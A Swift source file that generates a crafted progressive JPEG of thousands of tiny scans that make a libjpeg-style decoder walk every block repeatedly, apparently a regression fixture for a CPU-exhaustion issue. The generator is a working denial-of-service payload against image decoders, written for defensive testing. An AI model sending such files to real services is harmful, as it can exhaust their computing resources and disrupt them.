import Foundation

/// A progressive JPEG that costs a decoder far more than its size (issue #32): a valid grey frame,
/// one DC scan, then `scans` AC scans that are each a few bytes, since one end-of-band run code
/// covers 16,384 to 32,767 blocks. libjpeg walks every block of the frame for every scan, so a
/// 4000 × 4000 frame (250,000 blocks) with 20,000 such scans took 33 s of CPU in the old tool.
/// Built here rather than committed: 20,000 scans are about half a megabyte.
public enum HostileJPEG {
    public static func progressive(width: Int = 4000, height: Int = 4000, scans: Int) -> Data {
        var bytes: [UInt8] = [0xFF, 0xD8]
        bytes += segment(0xDB, [0x00] + [UInt8](repeating: 1, count: 64)) // one quantisation table of ones
        bytes += segment(0xC2, [8, UInt8(height >> 8), UInt8(height & 0xFF), UInt8(width >> 8), UInt8(width & 0xFF), 1, 1, 0x11, 0])
        // Huffman tables with one code each, '0': DC difference 0, and AC symbol 0xE0 (EOB14, a run
        // of 2^14 plus the 14 bits that follow).
        bytes += segment(0xC4, [0x00, 1] + [UInt8](repeating: 0, count: 15) + [0x00])
        bytes += segment(0xC4, [0x10, 1] + [UInt8](repeating: 0, count: 15) + [0xE0])
        let blocks = (width + 7) / 8 * ((height + 7) / 8)
        // The DC scan: one bit a block, so the AC scans after it are a proper progression.
        bytes += segment(0xDA, [1, 1, 0x00, 0, 0, 0]) + entropyCoded([Bool](repeating: false, count: blocks))
        var runs: [Bool] = []
        var left = blocks
        while left > 0 {
            let run = max(16_384, min(left, 32_767))
            runs.append(false)
            runs += (0..<14).reversed().map { (run - 16_384) >> $0 & 1 == 1 }
            left -= run
        }
        let scan = segment(0xDA, [1, 1, 0x00, 1, 63, 0]) + entropyCoded(runs)
        for _ in 0..<scans { bytes += scan }
        return Data(bytes + [0xFF, 0xD9])
    }

    static func segment(_ marker: UInt8, _ payload: [UInt8]) -> [UInt8] {
        let length = payload.count + 2
        return [0xFF, marker, UInt8(length >> 8), UInt8(length & 0xFF)] + payload
    }

    /// Bits packed most significant first, the last byte padded with ones, every 0xFF followed by a
    /// stuffed 0x00 as in any entropy-coded segment.
    static func entropyCoded(_ bits: [Bool]) -> [UInt8] {
        var output: [UInt8] = []
        var byte = 0
        var count = 0
        func emit() {
            output.append(UInt8(byte))
            if byte == 0xFF { output.append(0) }
            byte = 0
            count = 0
        }
        for bit in bits {
            byte = byte << 1 | (bit ? 1 : 0)
            count += 1
            if count == 8 { emit() }
        }
        if count > 0 {
            byte = byte << (8 - count) | (1 << (8 - count) - 1)
            emit()
        }
        return output
    }
}
